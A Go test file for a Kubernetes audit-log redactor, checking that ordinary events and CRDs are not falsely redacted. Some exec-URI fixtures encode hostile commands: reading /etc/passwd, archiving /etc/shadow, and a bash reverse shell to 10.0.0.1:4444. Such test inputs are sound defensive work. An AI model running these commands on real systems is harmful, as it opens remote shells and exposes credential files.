package redact

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"io"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	"bulwark.dev/bulwark/internal/audit"
)

// ordinary are bodies and addresses without a secret in them, as every cluster has
// them.
func ordinary() map[string]*audit.Event {
	certificate := "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUQ0RENDQXNpZ0F3SUJBZ0lVQkFmT2RzVWVaMzR3K0FWZWFhZz0KLS0tLS1FTkQgQ0VSVElGSUNBVEUtLS0tLQo="
	body := func(resource, text string) *audit.Event {
		e := about(resource, "create")
		e.RequestObject = json.RawMessage(text)
		return e
	}
	uri := func(uri string) *audit.Event {
		e := about("pods/exec", "create")
		e.RequestURI = uri
		return e
	}
	out := map[string]*audit.Event{
		"pod": body("pods", `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-7d9c6b8f5-x2x4z","generateName":"web-7d9c6b8f5-","labels":{"pod-template-hash":"7d9c6b8f5"},"annotations":{"kubernetes.io/config.seen":"2026-01-01T00:00:00Z","checksum/secret":"8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92"}},
			"spec":{"serviceAccountName":"web","automountServiceAccountToken":true,"imagePullSecrets":[{"name":"regcred"}],"containers":[{"name":"web","image":"registry.example.com/secret:token","env":[
			{"name":"PASSWORD_FILE","value":"/run/secrets/password"},{"name":"DB_PASSWORD","valueFrom":{"secretKeyRef":{"name":"db","key":"password"}}},{"name":"TOKEN","value":"$(OTHER_TOKEN)"},{"name":"USE_TOKEN","value":"true"},{"name":"PWD","value":"/app"},
			{"name":"SECRET_NAME","value":"db"},{"name":"TOKEN_TTL","value":"1h"},{"name":"MAX_TOKENS","value":"4096"},{"name":"URL","value":"https://api.example.com:8443/v1/token?x=y"}],
			"command":["/bin/sh","-c","mkdir -p /data && tar -pxf x.tar && ssh -p 22 git@host && echo password: ; exec app --token-file /x --port=80"],
			"volumeMounts":[{"name":"kube-api-access-abcde","mountPath":"/var/run/secrets/kubernetes.io/serviceaccount"}],"livenessProbe":{"httpGet":{"path":"/healthz","port":8080,"httpHeaders":[{"name":"X-Probe","value":"1"}]}}}],
			"volumes":[{"name":"kube-api-access-abcde","projected":{"sources":[{"serviceAccountToken":{"expirationSeconds":3607,"path":"token"}},{"configMap":{"name":"kube-root-ca.crt"}}]}},{"name":"s","secret":{"secretName":"db","defaultMode":420}}]}}`),
		"control plane": body("pods", `{"spec":{"containers":[{"name":"kube-apiserver","command":["kube-apiserver","--service-account-key-file=/etc/kubernetes/pki/sa.pub","--service-account-signing-key-file=/etc/kubernetes/pki/sa.key","--tls-private-key-file=/etc/kubernetes/pki/apiserver.key","--enable-bootstrap-token-auth=true","--use-service-account-credentials=true","--authentication-token-webhook=true","--token-auth-file","/etc/x","--requestheader-username-headers=X-Remote-User","--enable-admission-plugins=NodeRestriction"]}]}}`),
		"webhook":       body("admissionregistration.k8s.io/validatingwebhookconfigurations", `{"webhooks":[{"clientConfig":{"caBundle":"`+certificate+`","service":{"name":"w","path":"/v"}},"name":"a.b.c","rules":[{"resources":["secrets","serviceaccounts/token","tokenreviews"],"operations":["*"]}]}]}`),
		"role":          body("rbac.authorization.k8s.io/clusterroles", `{"kind":"ClusterRole","rules":[{"apiGroups":[""],"resources":["secrets","serviceaccounts/token"],"verbs":["get","create"],"resourceNames":["password","token"]}]}`),
		"account":       body("serviceaccounts", `{"kind":"ServiceAccount","secrets":[{"name":"default-token-abcde"}],"imagePullSecrets":[{"name":"regcred"}],"metadata":{"uid":"5f0b3b1e-7d4b-4a57-8c0d-2d8f7f4e1a11"}}`),
		"request":       body("certificates.k8s.io/certificatesigningrequests", `{"kind":"CertificateSigningRequest","spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1ZqQ0NBVDRDQVFBd0VURVBNQTBHQTFVRUF3d0dZVzVuWld4aE1JSUJJakFOQmdrcWhraUc5dzBCQVFFRg==","signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}}`),
		"ingress":       body("networking.k8s.io/ingresses", `{"kind":"Ingress","metadata":{"annotations":{"nginx.ingress.kubernetes.io/auth-secret":"basic-auth","nginx.ingress.kubernetes.io/auth-type":"basic","cert-manager.io/private-key-secret-name":"x"}},"spec":{"tls":[{"hosts":["a.b"],"secretName":"tls"}]}}`),
		"reference":     body("external-secrets.io/externalsecrets", `{"kind":"ExternalSecret","spec":{"secretStoreRef":{"name":"vault","kind":"SecretStore"},"target":{"name":"db"},"data":[{"secretKey":"password","remoteRef":{"key":"secret/data/db","property":"password"}}]}}`),
		"grant":         body("gateway.networking.k8s.io/referencegrants", `{"kind":"ReferenceGrant","spec":{"from":[{"group":"gateway.networking.k8s.io","kind":"Gateway","namespace":"a"}],"to":[{"group":"","kind":"Secret","name":"tls"}]}}`),
		"sealed":        body("bitnami.com/sealedsecrets", `{"kind":"SealedSecret","spec":{"encryptedData":{"a":"AgBy3i4OJSWK+PiTySYZZA9rO43cGDEq"}}}`),
		"config":        body("configmaps", `{"kind":"ConfigMap","data":{"ca.crt":"-----BEGIN CERTIFICATE-----\nMIIDBTCCAe2gAwIBAgIIVx\n-----END CERTIFICATE-----\n","Corefile":".:53 {\n errors\n health {\n lameduck 5s\n }\n kubernetes cluster.local in-addr.arpa ip6.arpa {\n pods insecure\n }\n}","jws-kubeconfig-abcdef":"eyJhbGciOiJIUzI1NiIsImtpZCI6ImFiY2RlZiJ9..mRkVQ1Yp2k6hZQ","LOG_LEVEL":"info","password_policy":"min=8","tokens_per_minute":"5","TOKEN_URL":"https://id.example.com/token","x.yaml":"secretName: db\npasswordFile: /x\npassword: ${PASSWORD}\ntoken: \"\"\n"}}`),
		"status":        body("secrets", `{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"secrets \"db-password\" not found","reason":"NotFound","details":{"name":"db-password","kind":"secrets"},"code":404}`),
		"options":       body("secrets", `{"kind":"DeleteOptions","apiVersion":"v1","propagationPolicy":"Background"}`),
		"table":         body("secrets", `{"kind":"Table","columnDefinitions":[{"name":"Name"}],"rows":[{"cells":["db","Opaque",3,"5d"],"object":{"kind":"PartialObjectMetadata","metadata":{"name":"db","managedFields":[{"fieldsV1":{"f:data":{"f:password":{}}}}]}}}]}`),
		"patch":         body("secrets", `[{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"remove","path":"/data/x"}]`),
		"event":         body("events", `{"kind":"Event","involvedObject":{"kind":"Secret","name":"db-password","namespace":"a"},"message":"MountVolume.SetUp failed for volume \"s\" : secret \"db-password\" not found","reason":"FailedMount"}`),
		"review":        body("authorization.k8s.io/subjectaccessreviews", `{"kind":"SubjectAccessReview","spec":{"resourceAttributes":{"resource":"secrets","verb":"get"},"user":"a","extra":{"authentication.kubernetes.io/credential-id":["JTI=5f0b3b1e-7d4b-4a57-8c0d-2d8f7f4e1a11"]}}}`),
		"applied":       body("services", `{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"apiVersion\":\"v1\",\"kind\":\"Service\",\"spec\":{\"ports\":[{\"port\":80}]}}\n"}}}`),
		"shell":         uri("/api/v1/namespaces/a/pods/p/exec?command=sh&command=-c&command=ls+-la+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdin=true&tty=true"),
		"cat":           uri("/api/v1/namespaces/a/pods/p/exec?command=cat&command=%2Fetc%2Fpasswd&container=c&stdout=true"),
		"tar":           uri("/api/v1/namespaces/a/pods/p/exec?command=tar&command=cf&command=-&command=-p&command=%2Fetc%2Fshadow"),
		"reverse":       uri("/api/v1/namespaces/a/pods/p/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444+0%3E%261"),
		"secret's name": uri("/api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef"),
		"token":         uri("/api/v1/namespaces/a/serviceaccounts/default/token?timeout=10s"),
		"list":          uri("/api/v1/secrets?limit=500&continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MTIzLCJzdGFydCI6ImEvYiJ9&labelSelector=app%3Dtoken&fieldSelector=type%3Dkubernetes.io%2Fservice-account-token"),
		"proxied":       uri("/api/v1/namespaces/monitoring/services/http:prometheus:9090/proxy/api/v1/query?query=sum%28rate%28http_requests_total%7Bcode%3D~%225..%22%7D%5B5m%5D%29%29&time=1700000000"),
		"user": {
			Kind: audit.KindAPI, UserAgent: "kubectl/v1.36.3 (linux/amd64) kubernetes/0123456", RequestURI: "/api/v1/namespaces/a/pods",
			User:   audit.User{Username: "ann", Extra: map[string][]string{"authentication.kubernetes.io/credential-id": {"JTI=5f0b3b1e"}, "accessKeyId": {"ASIAABCDEFGHIJKLMNOP"}}},
			Status: audit.Status{Message: `pods "a" is forbidden: User "ann" cannot get resource "secrets"`},
			Annotations: map[string]string{
				"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": `RBAC: allowed by ClusterRoleBinding "token" of ClusterRole "secret"`,
				"mutation.webhook.admission.k8s.io/round_0_index_1": `{"configuration":"token-injector","webhook":"a.b.c","mutated":false}`,
				"pod-security.kubernetes.io/audit-violations":       `would violate PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "token" must set securityContext)`,
			},
		},
	}
	maps.Copy(out, more(body, uri))
	hook := body("secrets", "")
	hook.RequestObject, hook.Annotations = nil, map[string]string{"mutation.webhook.admission.k8s.io/round_0_index_1": `{"configuration":"c","webhook":"a.b.c","mutated":true}`}
	out["webhook of a secret"] = hook
	return out
}

// more are what looks like what leaks has in it.
func more(body func(resource, text string) *audit.Event, uri func(string) *audit.Event) map[string]*audit.Event {
	applied := `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web"},"spec":{"replicas":2,"template":{"spec":{"containers":[{"name":"c","image":"nginx:1"}]}}}}`
	legacy := body("pods", "")
	legacy.RequestObject, legacy.Annotations = nil, map[string]string{
		"authentication.k8s.io/legacy-token": "system:serviceaccount:shop:web", "authentication.k8s.io/stale-token": "subject: system:serviceaccount:shop:web, seconds after warning threshold: 4",
	}
	caller := body("pods", "")
	caller.RequestObject, caller.User = nil, audit.User{
		Username: "https://accounts.example.com#1053-very-long-subject-0123456789", Groups: []string{"oidc:platform-team-of-the-company", "system:authenticated"},
		Extra: map[string][]string{
			"authentication.kubernetes.io/pod-name": {"web-7d9c6b8f5-x2x4z"}, "authentication.kubernetes.io/node-uid": {"5f0b3b1e-7d4b-4a57-8c0d-2d8f7f4e1a11"},
			"arn": {"arn:aws:sts::123456789012:assumed-role/Admin/i-0123456789abcdef0"}, "principalId": {"AROAABCDEFGHIJKLMNOPQ:ann"}, "scopes.authorization.openshift.io": {"user:full"},
		},
	}
	caller.Impersonated = &audit.User{Username: "system:serviceaccount:kube-system:token-cleaner"}
	caller.Status.Message = `Operation cannot be fulfilled on secrets "db-password": the object has been modified; please apply your changes to the latest version and try again`
	return map[string]*audit.Event{
		"legacy token": legacy, "caller": caller,
		"packed":     body("apps/deployments", `{"metadata":{"annotations":{"objectset.rio.cattle.io/applied":"`+gzipped(applied)+`","note":"`+base64.StdEncoding.EncodeToString([]byte(applied))+`"}}}`),
		"XML":        body("configmaps", `{"data":{"x.xml":"<web><session-timeout>30</session-timeout><name>password</name><value/><add key=\"LogLevel\" value=\"debug\"/><tokenUrl>https://x/token</tokenUrl></web>"}}`),
		"references": body("widgets", `{"spec":{"password":{"valueFrom":{"secretKeyRef":{"name":"db","key":"password"}}},"token":{"name":"x","namespace":"y"},"secret":{"secretName":"db","items":[{"key":"password","path":"p"}]},"params":[{"name":"size","value":"3"},{"name":"password-policy","value":"min8"}],"env":{"SECRET_NAME":"db","LEVEL":"info"},"headers":{"X-Request-ID":"1"}}}`),
		"an Event":   body("events", `{"kind":"Event","metadata":{"name":"webapp.17a2b3c4d5e6f708"},"message":"Pulled image registry.example.com/webapp.0123456789abcdef"}`),
		"manifests":  body("widgets", `{"spec":{"manifest":"kind: ExternalSecret\nspec:\n  data:\n  - secretKey: a\n---\nkind: SecretStore\n","note":"see kind: Secret in metadata: x"}}`),
		"percent":    uri("/api/v1/namespaces/a/pods/p/exec?command=sh&command=-c&command=date+%2B%25s+%26%26+df+-h+%7C+awk+%27%7Bprint+%245%7D%27+%3E+%2Fdata%2Fx"),
		"arguments":  body("apps/deployments", `[{"op":"replace","path":"/spec/template/spec/containers/0/args/3","value":"--level=debug"},{"op":"replace","path":"/spec/template/spec/containers/0/command/2","value":"exec app --port 80"}]`),
		"fields":     body("secrets", `{"kind":"Secret","apiVersion":"v1","metadata":{"name":"s","managedFields":[{"manager":"kubectl","operation":"Update","fieldsV1":{"f:data":{"f:password":{}}}}]},"type":"Opaque"}`),
		"a remove":   body("secrets", `[{"op":"move","from":"/metadata/labels/a","path":"/metadata/labels/b"},{"op":"remove","path":"/data/x"}]`),
		"users":      body("configmaps", `{"data":{"price":"$6 and $5 for $1$","pwd.sh":"cd $PWD; echo $2","note":"the <password> of an account"}}`),
	}
}

// gzipped is what tools make of an object to keep it in an annotation.
func gzipped(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, text) // memory takes all
	_ = w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func TestOrdinary(t *testing.T) {
	t.Parallel()
	for name, e := range ordinary() {
		if len(e.RequestObject) > 0 {
			e.RequestObject = canonicalBody(t, string(e.RequestObject))
		}
		before := string(audit.AppendCanonical(nil, e))
		if o := redactor(t).Redact(e); len(o) != 0 {
			for _, opening := range o {
				t.Errorf("%s: %s: %s", name, opening.Path, opening.Value)
			}
		}
		if after := string(audit.AppendCanonical(nil, e)); len(e.Redactions) == 0 && after != before {
			t.Errorf("%s was changed:\n%s\n%s", name, before, after)
		}
	}
}

// The custom resources of this repository have long descriptions, and fields that
// are called password and token.
func TestDefinitions(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(filepath.FromSlash("../../../../deploy/crds/*.yaml"))
	if err != nil || len(files) < 2 {
		t.Fatalf("%d definitions: %v", len(files), err)
	}
	for _, file := range files {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for part := range strings.SplitSeq(string(text), "\n---\n") {
			raw, err := yaml.YAMLToJSON([]byte(part))
			if err != nil {
				t.Fatal(err)
			}
			e := about("apiextensions.k8s.io/customresourcedefinitions", "create")
			e.RequestObject = canonicalBody(t, string(raw))
			for _, o := range redactor(t).Redact(e) {
				t.Errorf("%s: %s: %s", filepath.Base(file), o.Path, o.Value)
			}
		}
	}
}
